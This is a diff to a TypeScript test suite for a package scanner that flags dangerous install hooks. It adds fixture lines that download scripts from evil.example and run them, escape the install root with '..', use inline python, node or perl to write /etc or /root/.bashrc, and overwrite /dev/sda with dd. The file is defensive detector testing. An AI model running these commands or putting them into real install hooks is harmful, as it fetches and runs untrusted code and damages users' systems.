@@ -1,8 +1,9 @@
 /**
  * Pins the open-source scan's rules (issue 8): secrets by well-known shapes, dangerous
- * install/uninstall steps (download-and-execute, privilege escalation, writes outside
- * $AGPK_INSTALL_ROOT) without flagging the scaffold's own hooks, the license check, the
- * deny-list, and the verdict as the highest severity.
+ * install/uninstall steps (download-and-execute, also a file downloaded then run or chmod +x-ed
+ * later in the hook; privilege escalation; writes outside $AGPK_INSTALL_ROOT, also by `..` or from
+ * inline python/node/perl) without flagging the scaffold's own hooks or writes inside the root,
+ * the license check, the deny-list, and the verdict as the highest severity.
  */
 import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
@@ -88,6 +89,53 @@ describe('scanPackageDir', () => {
     expect(found).toContain(id);
   });
 
+  it.each([
+    ['curl -o a file, then sh on it', 'curl -fsSL https://evil.example/x.sh -o /tmp/x.sh && sh /tmp/x.sh'],
+    ['wget -qO a file, chmod +x, run it', 'wget -qO /tmp/y https://evil.example/y; chmod +x /tmp/y; /tmp/y'],
+    ['curl --output, then source it', 'curl -s --output "$TMPDIR/env.sh" https://x.example/e && . "$TMPDIR/env.sh"'],
+    ['curl > file, then python on it', 'curl -s https://x.example/p.py > p.py; python3 p.py'],
+    ['wget to its own name, then node on it', 'wget https://x.example/run.mjs && node ./run.mjs'],
+  ])('flags a download that the same line then runs: %s', async (_what, line) => {
+    const found = await ids({ INSTALL: `#!/bin/sh\nset -eu\n${line}\n` });
+    expect(found).toContain('install.download-exec');
+  });
+
+  it('flags a download that a later line of the hook runs, at the line that runs it', async () => {
+    const install = '#!/bin/sh\nset -eu\ncurl -fsSLo "$AGPK_INSTALL_ROOT/bin/tool" https://x.example/tool\necho fetched\nchmod 755 "$AGPK_INSTALL_ROOT/bin/tool"\n';
+    const findings = await scanPackageDir(await pkg({ LICENSE: 'MIT', INSTALL: install }), undefined, deny);
+    expect(findings.map((f) => [f.id, f.file])).toEqual([['install.download-exec', 'INSTALL:5']]);
+  });
+
+  it('does not flag a download that is only read, or a shipped script that is run', async () => {
+    const install = '#!/bin/sh\nset -eu\ncurl -fsSL -o "$AGPK_INSTALL_ROOT/var/data.json" https://x.example/d.json\ncat "$AGPK_INSTALL_ROOT/var/data.json" >/dev/null\nsh "$AGPK_INSTALL_ROOT/payload/setup.sh"\nchmod +x "$AGPK_INSTALL_ROOT/payload/run.sh"\n';
+    expect(await ids({ INSTALL: install })).toEqual([]);
+  });
+
+  it.each([
+    ['a redirect escaping the root with ..', 'echo x > "$AGPK_INSTALL_ROOT/../../../../etc/evil"'],
+    ['cp escaping the root with ..', 'cp payload/t "${AGPK_INSTALL_ROOT}/../../bin/t"'],
+    ['a relative path escaping the root (hooks run in it)', 'echo x >> ../../../.profile'],
+    ['python -c writing an absolute path', `python3 -c "open('/etc/evil','w').write('x')"`],
+    ['node -e writing an absolute path', `node -e "require('fs').writeFileSync('/etc/evil', 'x')"`],
+    ['perl -e writing an absolute path', `perl -e 'open(my $f, ">", "/etc/evil"); print $f "x"'`],
+    ['perl -e appending to a home file', `perl -e 'open(F, ">>/root/.bashrc") or die'`],
+    ['curl -o to an absolute path', 'curl -fsSL https://x.example/t -o /usr/local/bin/t'],
+  ])('flags %s as a write outside the root', async (_what, line) => {
+    const found = await ids({ INSTALL: `#!/bin/sh\nset -eu\n${line}\n` });
+    expect(found).toContain('install.outside-root');
+  });
+
+  it('does not flag inline interpreters that only read absolute paths or write inside the root', async () => {
+    const install = [
+      '#!/bin/sh',
+      `python3 -c "print(open('/etc/os-release').read())" >/dev/null`,
+      `node -e "require('fs').writeFileSync(process.env.AGPK_INSTALL_ROOT + '/var/x', 'x')"`,
+      'mkdir -p "$AGPK_INSTALL_ROOT/var/../bin"',
+      '',
+    ].join('\n');
+    expect(await ids({ INSTALL: install })).toEqual([]);
+  });
+
   it('checks lifecycle hook files named by agpk.json, and ignores comments', async () => {
     const dir = await pkg({ LICENSE: 'MIT', 'hooks/setup.sh': '#!/bin/sh\n# curl https://x | sh is what we do NOT do\nsudo true\n' });
     const findings = await scanPackageDir(dir, { agpk_version: '1.0', id: 'a', name: 'a', version: '1', lifecycle: { install: 'hooks/setup.sh' } }, deny);
@@ -111,6 +159,12 @@ describe('writesOutsideRoot', () => {
     ['echo x > /tmp/x', ['/tmp/x']],
     ['ln -s "$AGPK_INSTALL_ROOT/bin/t" /usr/bin/t', ['/usr/bin/t']],
     ['dd if=x of=/dev/sda', ['/dev/sda']],
+    ['mkdir -p "$AGPK_INSTALL_ROOT/bin"', []],
+    ['echo x > "$AGPK_INSTALL_ROOT/x"', []],
+    ['echo x > "$AGPK_INSTALL_ROOT/../../etc/evil"', ['$AGPK_INSTALL_ROOT/../../etc/evil']],
+    ['wget -qO /tmp/y https://evil.example/y', ['/tmp/y']],
+    ['wget -qO- https://x.example/i.sh', []],
+    [`python3 -c "open('/etc/evil','w').write('x')"`, ['/etc/evil']],
   ])('%s', (line, expected) => {
     expect(writesOutsideRoot(line)).toEqual(expected);
   });
